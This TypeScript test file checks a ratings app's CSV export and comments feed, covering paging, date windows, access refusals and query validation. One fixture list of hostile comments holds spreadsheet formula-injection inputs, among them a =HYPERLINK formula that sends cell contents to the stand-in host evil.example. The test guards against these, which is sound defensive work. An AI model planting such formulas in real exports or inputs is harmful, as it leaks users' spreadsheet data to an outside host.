/**
 * The ratings export (CSV) and the comments feed over real HTTP, on both stores: a file that
 * spreadsheets read back exactly (hostile comments included) and never run as formulas, complete
 * and in order past the size of one page, a feed that pages newest first, and refusals for
 * everyone the scores API refuses.
 */
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_PASSWORD, DEMO_SITE_ID } from '../../server/demo/seed';
import type { CommentsPage } from '../../server/http/comments';
import { EXPORT_COLUMNS, EXPORT_PAGE } from '../../server/http/exports';
import { ratingsQuery } from '../../server/storage/ratings';
import type { SqlStore } from '../../server/storage/sql-store';
import type { FactInput } from '../../shared/facts';
import { readCsv, unguarded } from '../support/csv';
import { call, startServer, TEST_ADMIN_TOKEN, type TestServer } from '../support/server';
import { apiSiteMaker } from '../support/sites';
import { createTestStorage, storeKinds, type TestStorage } from '../support/stores';

/** The server's "now": every rating below is before it. */
const NOW = Date.parse('2026-03-01T12:00:00Z');
const BASE = Date.parse('2026-01-10T09:00:00Z');
const SECOND = 1000;
const iso = (ms: number) => new Date(ms).toISOString();

interface RatingSpec {
  conversationId: string;
  at: number;
  end: number;
  agentId?: string;
  peak?: { dimension: string; polarity: string };
  comment?: string;
  excluded?: 'member' | 'flood';
  /** No agent wrote before the rating: it is set aside as unanswered. */
  unanswered?: boolean;
}

/** The events of a conversation that ends in this rating. */
function rated(spec: RatingSpec): FactInput[] {
  const { conversationId, at } = spec;
  const id = (what: string) => `${conversationId}.${what}`;
  const facts: FactInput[] = [
    { id: id('v'), type: 'message', conversationId, at: iso(at - 3 * SECOND), from: 'visitor' },
  ];
  if (!spec.unanswered) {
    facts.push(
      {
        id: id('a'),
        type: 'message',
        conversationId,
        at: iso(at - 2 * SECOND),
        from: 'agent',
        agentId: spec.agentId ?? 'anna',
      },
      { id: id('c'), type: 'conversation.closed', conversationId, at: iso(at - SECOND) },
    );
  }
  facts.push({
    id: id('r'),
    type: 'rating',
    conversationId,
    at: iso(at),
    end: spec.end,
    ...(spec.peak && { peak: spec.peak }),
    ...(spec.comment !== undefined && { comment: spec.comment }),
    ...(spec.excluded && { excluded: spec.excluded }),
  } as FactInput);
  return facts;
}

const HOSTILE_COMMENTS = [
  'She said "all fixed", and it was',
  'commas, everywhere, really',
  'line one\nline two',
  'carriage\r\nreturn and\rlone CR',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a discount")',
  '+1',
  '-2',
  '@SUM(A1:A9)',
  'Thanks 😀👍🏽 — très bien',
  'שלום, תודה רבה על העזרה',
  '"quoted at both ends"',
  '',
];

describe.each(await storeKinds())('ratings export and comments feed (%s)', (kind) => {
  let storage: TestStorage;
  let server: TestServer;
  let supervisor: string;
  let agent: string;

  beforeAll(async () => {
    storage = await createTestStorage(kind);
    server = await startServer({ storage, clock: { now: () => NOW } });
    supervisor = await signIn('anna@demo.peakend.test');
    agent = await signIn('ben@demo.peakend.test');
  });
  afterAll(async () => {
    await server?.stop();
    await storage?.remove();
  });

  async function signIn(email: string): Promise<string> {
    const answer = await call(server, 'POST', '/api/v1/session', {
      body: { email, password: DEMO_PASSWORD },
    });
    expect(answer.status).toBe(200);
    return answer.cookie!;
  }

  /** A new site of this test's own, and its key. */
  const newSite = apiSiteMaker(() => server, 'Exports');

  async function send(siteId: string, key: string, facts: FactInput[]) {
    for (let i = 0; i < facts.length; i += 1000) {
      const answer = await call(server, 'POST', `/api/v1/sites/${siteId}/events`, {
        token: key,
        body: { events: facts.slice(i, i + 1000) },
      });
      expect(answer.status, JSON.stringify(answer.body)).toBe(200);
    }
  }

  /** GET as raw bytes, with a credential. */
  async function fetchRaw(path: string, auth: { key?: string; cookie?: string }) {
    const response = await fetch(`${server.url}${path}`, {
      headers: {
        ...(auth.key && { authorization: `Bearer ${auth.key}` }),
        ...(auth.cookie && { cookie: auth.cookie }),
      },
    });
    return { response, bytes: Buffer.from(await response.arrayBuffer()) };
  }

  /** The export's records (header first), checked to be UTF-8 CSV with a byte-order mark. */
  async function exportOf(siteId: string, key: string, query = '') {
    const { response, bytes } = await fetchRaw(`/api/v1/sites/${siteId}/ratings.csv${query}`, {
      key,
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    return { response, text, records: readCsv(text) };
  }

  it('writes CSV that reads back exactly, hostile comments included, with no cell a formula', async () => {
    const { siteId, key } = await newSite();
    const specs: RatingSpec[] = HOSTILE_COMMENTS.map((comment, i) => ({
      conversationId: `hostile${String(i).padStart(2, '0')}`,
      at: BASE + i * 60 * SECOND,
      end: 1 + (i % 5),
      agentId: i % 2 ? 'ben' : 'anna',
      comment,
      ...(i % 3 === 0 && { peak: { dimension: 'reliability', polarity: 'negative' } }),
    }));
    specs.push(
      { conversationId: 'flooded', at: BASE + 100 * 60 * SECOND, end: 5, excluded: 'flood' },
      { conversationId: 'unanswered', at: BASE + 101 * 60 * SECOND, end: 1, unanswered: true },
    );
    await send(siteId, key, specs.flatMap(rated));

    const { response, records } = await exportOf(siteId, key);
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="peakend-ratings-${siteId}-start-to-2026-03-01.csv"`,
    );
    const [header, ...rows] = records;
    expect(header).toEqual([...EXPORT_COLUMNS]);
    expect(rows).toHaveLength(specs.length);
    const column = (name: (typeof EXPORT_COLUMNS)[number]) => EXPORT_COLUMNS.indexOf(name);
    rows.forEach((row, i) => {
      const spec = specs[i]!;
      expect(row).toHaveLength(EXPORT_COLUMNS.length);
      expect(row[column('conversation')]).toBe(spec.conversationId);
      expect(row[column('visitor')]).toMatch(/^Visitor [0-9A-F]{4}$/);
      // No segment is set on these conversations: the cell stays empty, never made up.
      expect(row[column('segment')]).toBe('');
      expect(row[column('end')]).toBe(String(spec.end));
      expect(row[column('rated at')]).toBe(iso(spec.at));
      expect(unguarded(row[column('comment')]!)).toBe(spec.comment ?? '');
      expect(row[column('peak dimension')]).toBe(spec.peak?.dimension ?? '');
      expect(row[column('peak polarity')]).toBe(spec.peak?.polarity ?? '');
    });
    // Every cell a spreadsheet would run is text: it starts with the apostrophe.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@]/);
    const byId = new Map(rows.map((row) => [row[column('conversation')], row]));
    expect(byId.get('hostile04')![column('comment')]).toBe(`'${HOSTILE_COMMENTS[4]}`);
    // An agent the events API brought in is named by its id until someone names them.
    expect(byId.get('hostile01')![column('agent')]).toBe('ben');
    expect(byId.get('hostile01')![column('agent id')]).toBe('ben');
    expect(byId.get('hostile00')![column('excluded')]).toBe('');
    expect(byId.get('flooded')![column('excluded')]).toBe('flood');
    expect(byId.get('unanswered')![column('excluded')]).toBe('unanswered');
    expect(byId.get('unanswered')![column('agent')]).toBe('');
  });

  it('exports more ratings than one page, each once and in order, and only those in the window', async () => {
    const { siteId, key } = await newSite();
    const count = 2 * EXPORT_PAGE + 137;
    // Seven ratings to a millisecond: pages end in the middle of a tie.
    const specs: RatingSpec[] = Array.from({ length: count }, (_, i) => ({
      conversationId: `r${String(count - i).padStart(5, '0')}`,
      at: BASE + Math.floor(i / 7) * 60 * SECOND,
      end: 1 + (i % 5),
      comment: `number ${i}`,
    }));
    await send(siteId, key, specs.flatMap(rated));
    const inOrder = [...specs].sort(
      (a, b) => a.at - b.at || (a.conversationId < b.conversationId ? -1 : 1),
    );

    const { records } = await exportOf(siteId, key);
    expect(records.slice(1).map((row) => row[0])).toEqual(inOrder.map((s) => s.conversationId));

    // `from` is included, `to` is not.
    const from = inOrder[300]!.at;
    const to = inOrder[900]!.at;
    const window = await exportOf(siteId, key, `?from=${iso(from)}&to=${iso(to)}`);
    expect(window.records.slice(1).map((row) => row[0])).toEqual(
      inOrder.filter((s) => s.at >= from && s.at < to).map((s) => s.conversationId),
    );
    expect(window.response.headers.get('content-disposition')).toContain(
      `peakend-ratings-${siteId}-2026-01-10-to-2026-01-10.csv`,
    );
  });

  it('feeds comments and chips newest first, a page at a time, by agent', async () => {
    const { siteId, key } = await newSite();
    const specs: RatingSpec[] = [
      { conversationId: 'plain', at: BASE, end: 4, agentId: 'anna' },
      { conversationId: 'said', at: BASE + 1, end: 2, agentId: 'anna', comment: 'Too slow' },
      {
        conversationId: 'chip',
        at: BASE + 2,
        end: 5,
        agentId: 'ben',
        peak: { dimension: 'empathy', polarity: 'positive' },
      },
      { conversationId: 'empty', at: BASE + 3, end: 3, agentId: 'ben', comment: '' },
      {
        conversationId: 'flood',
        at: BASE + 4,
        end: 1,
        agentId: 'ben',
        comment: 'again',
        excluded: 'flood',
      },
      { conversationId: 'nobody', at: BASE + 5, end: 1, comment: 'Hello?', unanswered: true },
    ];
    await send(siteId, key, specs.flatMap(rated));

    const pages: CommentsPage[] = [];
    let next: string | null = null;
    do {
      const query: string = `?limit=2${next ? `&cursor=${next}` : ''}`;
      const answer = await call<CommentsPage>(
        server,
        'GET',
        `/api/v1/sites/${siteId}/comments${query}`,
        {
          token: key,
        },
      );
      expect(answer.status).toBe(200);
      pages.push(answer.body);
      next = answer.body.next;
    } while (next);
    expect(pages.map((page) => page.comments.length)).toEqual([2, 2]);
    const comments = pages.flatMap((page) => page.comments);
    expect(comments.map((c) => [c.conversationId, c.excluded])).toEqual([
      ['nobody', 'unanswered'],
      ['flood', 'flood'],
      ['chip', null],
      ['said', null],
    ]);
    expect(comments[2]).toEqual({
      conversationId: 'chip',
      visitorLabel: expect.stringMatching(/^Visitor [0-9A-F]{4}$/),
      segment: null,
      agent: { id: 'ben', name: 'ben' },
      end: 5,
      peak: { dimension: 'empathy', polarity: 'positive' },
      comment: null,
      at: iso(BASE + 2),
      excluded: null,
    });

    const anna = await call<CommentsPage>(
      server,
      'GET',
      `/api/v1/sites/${siteId}/comments?agent=anna`,
      {
        token: key,
      },
    );
    expect(anna.body).toEqual({
      comments: [expect.objectContaining({ conversationId: 'said', comment: 'Too slow' })],
      next: null,
    });
    const window = await call<CommentsPage>(
      server,
      'GET',
      `/api/v1/sites/${siteId}/comments?from=${iso(BASE + 1)}&to=${iso(BASE + 4)}`,
      { token: key },
    );
    expect(window.body.comments.map((c) => c.conversationId)).toEqual(['chip', 'said']);
  });

  describe.each(['ratings.csv', 'comments'])('who may read %s', (route) => {
    const path = (siteId: string) => `/api/v1/sites/${siteId}/${route}`;
    const refusal = async (siteId: string, auth: { key?: string; cookie?: string }) => {
      const { response, bytes } = await fetchRaw(path(siteId), auth);
      const body = JSON.parse(bytes.toString('utf8')) as { error: { code: string } };
      return { status: response.status, code: body.error.code };
    };

    it("the site's key and its supervisors; nobody else", async () => {
      const other = await newSite();
      const demoKey = (
        await call<{ key: string }>(server, 'POST', `/api/v1/sites/${DEMO_SITE_ID}/key`, {
          token: TEST_ADMIN_TOKEN,
        })
      ).body.key;
      expect((await fetchRaw(path(DEMO_SITE_ID), { cookie: supervisor })).response.status).toBe(
        200,
      );
      expect((await fetchRaw(path(DEMO_SITE_ID), { key: demoKey })).response.status).toBe(200);

      expect(await refusal(DEMO_SITE_ID, {})).toEqual({ status: 401, code: 'unauthorized' });
      expect(await refusal(DEMO_SITE_ID, { key: 'pk_made-up' })).toEqual({
        status: 401,
        code: 'unauthorized',
      });
      expect(await refusal(DEMO_SITE_ID, { key: TEST_ADMIN_TOKEN })).toEqual({
        status: 401,
        code: 'unauthorized',
      });
      // An agent reads their own scores in the console, not the team's ratings.
      expect(await refusal(DEMO_SITE_ID, { cookie: agent })).toEqual({
        status: 403,
        code: 'forbidden',
      });
      // Another site's key, and a supervisor of another site.
      expect(await refusal(DEMO_SITE_ID, { key: other.key })).toEqual({
        status: 403,
        code: 'forbidden',
      });
      expect(await refusal(other.siteId, { cookie: supervisor })).toEqual({
        status: 403,
        code: 'forbidden',
      });
      expect(await refusal('no-such-site', { key: other.key })).toEqual({
        status: 404,
        code: 'not_found',
      });
    });
  });

  it('refuses a bad query with 400, naming each problem', async () => {
    const { siteId, key } = await newSite();
    const problems = async (route: string, query: string) => {
      const answer = await call<{ error: { message: string; issues: unknown[] } }>(
        server,
        'GET',
        `/api/v1/sites/${siteId}/${route}?${query}`,
        { token: key },
      );
      expect(answer.status).toBe(400);
      expect(answer.body.error).toMatchObject({
        code: 'invalid',
        message: 'The query string is invalid.',
      });
      return answer.body.error.issues;
    };
    const notWhen =
      'must be an ISO-8601 date (2026-11-01) or time with a time zone (2026-11-01T09:00:00Z)';
    for (const route of ['ratings.csv', 'comments']) {
      expect(await problems(route, 'from=yesterday')).toEqual([{ path: 'from', message: notWhen }]);
      expect(await problems(route, 'to=2026-01-10T09:00:00')).toEqual([
        { path: 'to', message: notWhen },
      ]);
      expect(await problems(route, 'from=2026-02-01&to=2026-01-01')).toEqual([
        { path: 'to', message: 'must not be before from' },
      ]);
      expect(await problems(route, 'from=2026-01-01&from=2026-02-01')).toEqual([
        { path: 'from', message: expect.any(String) },
      ]);
      expect(await problems(route, 'form=2026-01-01')).toEqual([
        { path: '', message: expect.stringContaining('form') },
      ]);
    }
    const outOfRange = 'must be a whole number from 1 to 200';
    for (const limit of ['0', '201', '-1', '1.5', 'ten']) {
      expect(await problems('comments', `limit=${limit}`)).toEqual([
        { path: 'limit', message: outOfRange },
      ]);
    }
    expect(await problems('comments', 'cursor=not-a-cursor')).toEqual([
      { path: 'cursor', message: "is not a cursor this feed gave (use its 'next')" },
    ]);
    expect(await problems('comments', 'agent=no%20spaces')).toEqual([
      { path: 'agent', message: expect.any(String) },
    ]);
  });
});

describe('the rating index', () => {
  it('serves every page of exports and feeds on SQLite, without sorting', async () => {
    const storage = await createTestStorage('sqlite');
    const store = (await storage.open()) as SqlStore;
    try {
      const path = storage.databaseUrl.slice('sqlite:'.length);
      const file = new Database(path, { readonly: true });
      const queries = [
        { from: 0, to: NOW, order: 'asc', limit: 500 },
        { from: 0, to: NOW, order: 'asc', limit: 500, after: { at: BASE, conversationId: 'c' } },
        {
          from: 0,
          to: NOW,
          order: 'desc',
          limit: 51,
          after: { at: BASE, conversationId: 'c' },
          remarked: true,
          agentId: 'anna',
        },
      ] as const;
      for (const query of queries) {
        const { sql, parameters } = ratingsQuery(store.dialect, 'site', query).compile(store.db);
        const plan = file
          .prepare(`EXPLAIN QUERY PLAN ${sql}`)
          .all(...(parameters as unknown[]))
          .map((step) => (step as { detail: string }).detail);
        expect(plan).toEqual([
          expect.stringMatching(/^SEARCH c USING INDEX conversations_by_rating \(site_id=\? AND/),
        ]);
      }
      file.close();
    } finally {
      await store.close();
      await storage.remove();
    }
  });
});
